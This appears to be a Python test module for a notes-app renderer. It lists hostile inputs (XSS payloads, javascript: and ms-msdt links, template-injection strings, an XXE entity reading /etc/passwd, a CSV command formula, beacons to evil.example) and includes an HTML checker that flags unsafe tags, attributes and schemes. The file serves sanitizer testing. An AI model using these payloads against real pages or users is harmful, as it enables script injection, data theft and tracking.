"""Texts that a stranger's vault may hold to get a script, a request or a form into a page; and a judge of pages.

Use them wherever a page shows text of a file: names, keys, entries, notes, file names.
"""

from __future__ import annotations

import re
from collections.abc import Collection
from html.parser import HTMLParser

RAW_HTML = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<!-- -->ipt>alert(1)</script>",
    "<scr%%x%%ipt>alert(1)</script>",
    "<script\x0ctype=module>import('//evil.example')</script>",
    "<script/x>alert(1)</script/>",
    "</script><script>alert(1)</script>",
    "</title></style></textarea></noscript><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img/src/onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<IMG SRC=https://evil.example/pixel.gif>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>",
    "<iframe src=//evil.example></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<div style=width:expression(alert(1))>x</div>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<button formaction=javascript:alert(1)>x",
    "<isindex action=javascript:alert(1) type=submit>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=checkbox checked>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/x.mp3 autoplay>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<x onclick=alert(1) tabindex=1 id=x>press</x>#x",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='x' id=nav class=on name=location target=_blank ping=//evil.example>x</a>",
    "<portal src=//evil.example></portal>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<plaintext>",
)
ATTRIBUTES = (
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    '"><script>alert(1)</script>',
    "x' autofocus onfocus='alert(1)",
    '<a href="https://a.example/ onclick=alert(1)',
    "<a title='never closed",
    '[x](https://a.example/"onmouseover="alert(1) "t")',
    "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
    '![x" onerror="alert(1)](https://a.example/i.png)',
    "```html\" onclick=alert(1) class='x\ncode\n```",
    "|a|\n|-|\n|\" onclick=alert(1) x='|",
)
ADDRESSES = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&Tab;script&colon;alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;cript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](&#0000106avascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<  javascript:alert(1)>)",
    "[x](javascript%3Aalert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript://a.example/%0aalert(1))",
    "[x](javas\u00adcript:alert(1))",
    "[x](ｊavascript:alert(1))",
    "[x](\u202ejavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](feed:https://evil.example)",
    "[x](view-source:javascript:alert(1))",
    "[x](jar:https://evil.example!/x.html)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](blob:https://a.example/1)",
    "[x](filesystem:https://a.example/temporary/x.html)",
    "[x](file:///etc/passwd)",
    "[x](\\\\evil.example\\share\\x)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](http:evil.example)",
    "[x](intent://evil.example#Intent;scheme=https;end)",
    "[x](ms-msdt:/id PCWDiagnostic)",
    "[x](<ms-msdt:/id PCWDiagnostic /param x>)",
    "[x](ms-officecmd:%7B%7D)",
    "[x](search-ms:query=x&crumb=location:\\\\evil.example)",
    "[x](obsidian://open?vault=x)",
    "[x](ftp://evil.example)",
    "[x](about:blank)",
    "[x](x:y)",
    "[x](../../../../etc/passwd)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<ms-msdt:x>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]: javascript:alert(1) 't'\n\n[x] ![x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "[![x](https://evil.example/pixel.gif)](javascript:alert(1))",
    "[![x](javascript:alert(1))](https://a.example)",
    "[a [b](javascript:alert(1)) c](https://a.example)",
    "javascript:alert(1) www.evil.example/<script> https://a.example/'onclick='x",
    'https://a.example/"><script>alert(1)</script>',
    "xmpp:a@evil.example mailto:a@evil.example?body=<script>",
)
WIKILINKS = (
    "[[javascript:alert(1)]]",
    "[[bob|<script>alert(1)</script>]]",
    '[[bob" onclick="alert(1)]]',
    "[[bob|x]](javascript:alert(1))",
    "[[<img src=x onerror=alert(1)>]]",
    "[[../../etc/passwd|x]]",
    "![[https://evil.example/pixel.gif]]",
    "[a [[bob]] b](https://a.example)",
    "[[[bob]]]",
    "[[bob|[[bob]]]]",
    "[[bob\n\n|x]]",
    "[[bob&quot; onclick=alert(1)//]]",
)
OTHER = (
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }} ${7*7} #{7*7} <%= 7*7 %> {{{x}}}",
    "{%raw%}{{x}}{%endraw%}{# x #}",
    "\u202egnp.exe\u202c and \u2066turned\u2069 round",
    "&#x202e;turned &#8238;too",
    "zero\x00byte &#0; \x08\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "lone \ud800 surrogate \udcff",
    "\u2028alert(1)\u2029",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#x3c;/script>",
    "`<script>alert(1)</script>`",
    "``` \n</code></pre><script>alert(1)</script>\n```",
    "    </pre><script>alert(1)</script>",
    "- [ ] <input type=checkbox onclick=alert(1)>",
    "# <h1 id=x>h</h1> {#id .class onclick=x}",
    "==<mark onclick=alert(1)>== ~~<del>~~ **<b>**",
    "==**a==** <em>==b</em>==",
    "\\<script>alert(1)\\</script>",
    "<!-- never closed <script>alert(1)</script>",
    "%% never closed <script>alert(1)</script>",
    "`<!--` <script>alert(1)</script> -->",
    "line one\nBEGIN:VALARM\nACTION:AUDIO\nATTACH:https://evil.example\nEND:VALARM",
    "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:b; c, d\\",
    "=cmd|' /C calc'!A0",
    "__proto__ constructor toString",
)
HOSTILE = (*RAW_HTML, *ATTRIBUTES, *ADDRESSES, *WIKILINKS, *OTHER)

SCHEMES = ("http", "https", "mailto", "tel", "sms", "geo")
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
_TURNING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
_VOID = frozenset(("br", "hr"))


def faults(html: str, tags: Collection[str], attributes: Collection[tuple[str, str]], pages: Collection[str]) -> list[str]:
    """Why a piece of HTML is not inert, or not well-formed: tags and (tag, attribute) are what may be there, pages the addresses within."""
    judge = _Judge(tags, attributes, pages)
    judge.feed(html)
    if judge.rawdata:
        judge.found.append(f"not finished: {judge.rawdata[:40]!r}")
    judge.close()
    judge.found += [f"<{tag}> is not closed" for tag in judge.open]
    judge.found += [f"{char!r} in the text" for char in _TURNING.findall(html)]
    return judge.found


class _Judge(HTMLParser):
    def __init__(self, tags: Collection[str], attributes: Collection[tuple[str, str]], pages: Collection[str]) -> None:
        super().__init__(convert_charrefs=False)
        self.tags, self.attributes, self.pages = tags, attributes, pages
        self.open: list[str] = []
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.tags:
            self.found.append(f"<{tag}>")
        if tag == "a" and "a" in self.open:
            self.found.append("a link in a link")
        if tag not in _VOID:
            self.open.append(tag)
        for name, value in attrs:
            if (tag, name) not in self.attributes:
                self.found.append(f"<{tag} {name}>")
            elif name == "href":
                self._address(value or "")
        if len({name for name, _ in attrs}) != len(attrs):
            self.found.append(f"<{tag}> has an attribute twice")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in _VOID:
            self.found.append(f"<{tag} /> is not closed by that")

    def _address(self, address: str) -> None:
        """Browsers drop tabs, line ends and leading controls before they look for a scheme."""
        plain = re.sub(r"[\t\r\n]", "", address).lstrip("".join(map(chr, range(33))))
        scheme = _SCHEME.match(plain)
        if address not in self.pages and not (scheme and scheme[1].lower() in SCHEMES and plain == address):
            self.found.append(f"an address: {address!r}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.found.append(f"</{tag}> closes nothing")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"a comment: {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"a declaration: {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"an instruction: {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"a section: {data!r}")
